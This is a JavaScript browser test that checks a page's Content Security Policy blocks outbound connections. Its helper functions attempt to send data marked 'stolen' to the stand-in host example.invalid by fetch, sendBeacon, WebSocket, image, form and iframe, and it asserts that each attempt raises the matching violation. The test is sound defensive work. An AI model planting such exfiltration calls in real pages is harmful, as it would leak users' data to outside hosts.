// The page cannot send anything, even if something in it tried. Plain http, so that the proxy
// would see whatever got out.

import assert from 'node:assert/strict';
import { scenario } from './support.mjs';

await scenario(async (visitor) => {
  const expected = [/violates the following Content Security Policy/, /example\.invalid/];
  const page = await visitor.open({ expected });
  const policy = page.locator('head meta[http-equiv="Content-Security-Policy"]');
  const content = await policy.getAttribute('content');
  for (const part of ["default-src 'none'", "connect-src 'self'", "form-action 'none'"]) {
    assert.ok(content.includes(part), content);
  }
  const attempts = {
    'connect-src': [fetchElsewhere, beaconElsewhere, socketElsewhere],
    'img-src': [imageElsewhere],
    'form-action': [formElsewhere],
    'frame-src': [frameElsewhere],
  };
  for (const [directive, tries] of Object.entries(attempts)) {
    for (const attempt of tries) {
      const violated = page.evaluate(nextViolation);
      await page.evaluate(attempt);
      assert.equal(await violated, directive, attempt.name);
    }
  }
});

function nextViolation() {
  return new Promise((resolve) => {
    const tell = (event) => resolve(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', tell, { once: true });
    setTimeout(() => resolve('nothing'), 3000);
  });
}

function fetchElsewhere() {
  fetch('http://example.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
}

function beaconElsewhere() {
  navigator.sendBeacon('http://example.invalid/', 'stolen');
}

function socketElsewhere() {
  try {
    new WebSocket('ws://example.invalid/');
  } catch {
    // Refused at once.
  }
}

function imageElsewhere() {
  new Image().src = 'http://example.invalid/?stolen';
}

function formElsewhere() {
  const form = document.createElement('form');
  Object.assign(form, { action: 'http://example.invalid/', method: 'post' });
  document.body.append(form);
  form.submit();
}

function frameElsewhere() {
  const frame = document.createElement('iframe');
  frame.src = 'http://example.invalid/?stolen';
  document.body.append(frame);
}
